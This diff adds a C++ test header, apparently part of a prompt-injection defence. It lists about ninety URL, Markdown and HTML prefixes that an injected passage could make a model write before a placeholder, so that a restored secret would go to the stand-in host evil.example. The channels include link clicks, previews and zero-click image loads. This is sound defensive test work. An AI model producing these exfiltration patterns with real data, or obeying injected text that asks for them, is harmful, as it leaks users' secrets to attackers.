@@ -1,0 +1,105 @@
+#pragma once
+
+#include <string_view>
+
+/// For tests: what an injected passage may make a model write before a placeholder, so that a value
+/// put in its place would go to whoever wrote the passage: by a click, by a preview, or, with
+/// images, without anybody doing anything. `docs.corp.example` and `localhost` are allowed hosts.
+namespace sluice::restore {
+
+struct WayOut {
+  std::string_view note;
+  std::string_view before;  ///< the text up to the placeholder
+};
+
+inline constexpr WayOut kWaysOut[] = {
+    {"query of a URL", "see https://evil.example/?q="},
+    {"path", "https://evil.example/"},
+    {"fragment", "https://evil.example#"},
+    {"host", "https://"},
+    {"subdomain follows", "http://"},
+    {"user information", "https://docs.corp.example@evil.example/"},
+    {"user and password", "https://docs.corp.example:443@evil.example/"},
+    {"the value as user information", "https://docs.corp.example:"},
+    {"host that only begins like ours", "https://docs.corp.example.evil.example/"},
+    {"host that only ends like ours", "https://evildocs.corp.example/"},
+    {"subdomain of ours", "https://x.docs.corp.example/"},
+    {"backslash for a slash", R"(https:\\evil.example\)"},
+    {"backslash behind our host", R"(https://docs.corp.example\@evil.example/)"},
+    {"one slash", "https:/evil.example/"},
+    {"no slash", "https:evil.example/"},
+    {"three slashes", "https:///evil.example/"},
+    {"three slashes and our host", "https:///docs.corp.example/"},
+    {"slashes escaped as in JSON", R"(https:\/\/evil.example\/)"},
+    {"upper case", "HTTPS://EVIL.EXAMPLE/"},
+    {"protocol-relative", "//evil.example/"},
+    {"www", "www.evil.example/"},
+    {"www without a path", "www."},
+    {"bare domain", "evil.example/"},
+    {"bare domain with a query", "evil.example?"},
+    {"bare domain with a port", "evil.example:8080/"},
+    {"four numbers", "192.0.2.1/"},
+    {"ideographic full stop", "evil\u3002example/"},
+    {"full-width full stop", "evil\uFF0Eexample/"},
+    {"percent-encoded scheme", "https%3A%2F%2Fevil.example%2F"},
+    {"percent-encoded slashes", "%2f%2Fevil.example/"},
+    {"javascript", "javascript:fetch('"},
+    {"data", "data:text/html,"},
+    {"mailto", "mailto:evil@evil.example?body="},
+    {"scheme behind a digit", "1mailto:"},
+    {"file share", R"(\\evil.example\)"},
+    {"any scheme with slashes", "foo://evil.example/"},
+    {"behind a quote that ends no autolink", R"(https://evil.example/")"},
+    {"behind a comma", "https://evil.example/,"},
+    {"behind a bracket", "(https://evil.example/)"},
+    {"no-break space", "https://evil.example/\u00A0"},
+    {"zero-width space", "https://evil.example/\u200B"},
+    {"form feed is white space, vertical line is not", "https://evil.example/|"},
+    {"second URL behind ours", "https://docs.corp.example/?u=https://evil.example/"},
+    {"second URL, percent-encoded", "https://docs.corp.example/?u=https%3A%2F%2Fevil.example%2F"},
+    {"second link glued to ours", "https://docs.corp.example/)[x](https://evil.example/"},
+    {"other domain glued to ours", "https://docs.corp.example/),evil.example/"},
+    {"port that is none", "https://docs.corp.example:8x/"},
+    {"ftp to our host", "ftp://docs.corp.example/"},
+
+    {"Markdown image", "![x](https://evil.example/?q="},
+    {"Markdown image, protocol-relative", "![x](//evil.example/"},
+    {"Markdown link", "[x](https://evil.example/"},
+    {"whole target", "[x]("},
+    {"relative target", "[x](/images/"},
+    {"mailto target", "[write](mailto:"},
+    {"blanks before the target", "[x](  \n  "},
+    {"angle brackets", "[x](<https://evil.example/ "},
+    {"angle brackets with a bracket inside", "[x](<https://evil.example/)"},
+    {"escaped bracket inside", R"([x](https://evil.example/\))"},
+    {"balanced brackets inside", "[x](https://evil.example/(a)"},
+    {"line break inside", "[x](https://evil.example/\n"},
+    {"blank line inside, for simple renderers", "[x](https://evil.example/\n\n"},
+    {"title", "[x](https://docs.corp.example/ \""},
+    {"image inside a link", "[![a](https://docs.corp.example/a.png)](https://evil.example/"},
+    {"entities", "[x](&#104;ttps&colon;&sol;&sol;evil&period;example&sol;"},
+    {"reference", "[a]: https://evil.example/"},
+    {"reference with entities", "[a]: &sol;&sol;evil&period;example/"},
+    {"reference on the next line", "[a]:\n  &sol;&sol;"},
+    {"reference in angle brackets", "[a]: <&sol;&sol;evil.example/ "},
+    {"autolink", "<https://evil.example/"},
+
+    {"image tag", "<img src=\"https://evil.example/?q="},
+    {"single quotes", "<a href='//evil.example/"},
+    {"no quotes", "<img src=//evil.example/"},
+    {"blanks around =", "<img src = \"//evil.example/ "},
+    {"line breaks in a value", "<img src=\"https:\n//evil\n.example/\n\n"},
+    {"> in a value", "<img alt=\">\" src=\"//evil.example/"},
+    {"dangling value", "<img src='//evil.example/?\n\nand then "},
+    {"other attribute", "<a title=\""},
+    {"attribute name", "<a "},
+    {"tag name", "<im"},
+    {"closing tag", "</a "},
+    {"comment", "<!-- "},
+    {"second candidate of srcset", "<img srcset=\"https://docs.corp.example/a 1x, "},
+    {"style", "<p style=\"background:url('//evil.example/ "},
+    {"entities in a value", "<img src=\"&sol;&sol;evil&period;example&sol;"},
+    {"link hidden behind half a tag", "[a <x ](https://evil.example/>"},
+};
+
+}  // namespace sluice::restore
